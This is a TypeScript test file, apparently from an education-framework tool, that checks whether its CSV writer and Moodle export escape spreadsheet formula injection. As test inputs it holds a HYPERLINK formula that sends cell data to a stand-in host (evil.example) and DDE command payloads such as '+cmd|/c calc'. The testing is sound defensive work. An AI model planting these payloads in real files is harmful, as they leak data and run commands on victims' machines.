import type { FrameworkDocument } from '@proficio/shared/contracts';
import { BUILT_IN_PACKS } from '../../packs/built-in-packs';
import { exportMoodleCsv } from '../moodle-csv/moodle-csv';
import { escapeSpreadsheetCell, parseCsv, writeCsv } from './csv';
import { IssueList } from './issues';

const ATTACKS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', '+1+1', '-2+3', '@SUM(A1:A2)', '\tTab', '\rReturn'];

describe('escapeSpreadsheetCell', () => {
  it.each(ATTACKS)('prefixes %j with a quote', (cell) => {
    expect(escapeSpreadsheetCell(cell)).toBe(`'${cell}`);
  });

  it.each(['Plain text', 'a = b', 'e-mail', "'already quoted", '', ' =leading space', '3'])('leaves %j as it is', (cell) => {
    expect(escapeSpreadsheetCell(cell)).toBe(cell);
  });
});

describe('every CSV Proficio writes', () => {
  const parse = (text: string) => parseCsv(text, new IssueList()).records.map((record) => record.cells);

  it('writeCsv escapes formula cells and keeps the others', () => {
    expect(
      parse(
        writeCsv([
          ['=1+1', 'ok'],
          ['@me', 'a=b'],
        ]),
      ),
    ).toEqual([
      ["'=1+1", 'ok'],
      ["'@me", 'a=b'],
    ]);
  });

  it('the Moodle CSV export escapes names, codes and descriptions that would run as formulas', () => {
    const pack = BUILT_IN_PACKS[0] as FrameworkDocument;
    const doc: FrameworkDocument = structuredClone(pack);
    const lang = doc.framework.defaultLanguage;
    doc.framework.name = { ...doc.framework.name, [lang]: ATTACKS[0] as string };
    const competency = doc.competencies[0];
    if (!competency) throw new Error('the pack has no competency');
    competency.title = { ...competency.title, [lang]: '+cmd|/c calc' };
    competency.description = { ...competency.description, [lang]: '@SUM(1+1)*cmd|/c calc' };
    const cells = parse(exportMoodleCsv(doc)).flat();
    expect(cells).toContain(`'${ATTACKS[0]}`);
    expect(cells).toContain("'+cmd|/c calc");
    expect(cells.some((cell) => cell.startsWith("'@SUM(1+1)"))).toBe(true);
    // nothing that reaches the file starts a formula
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });
});
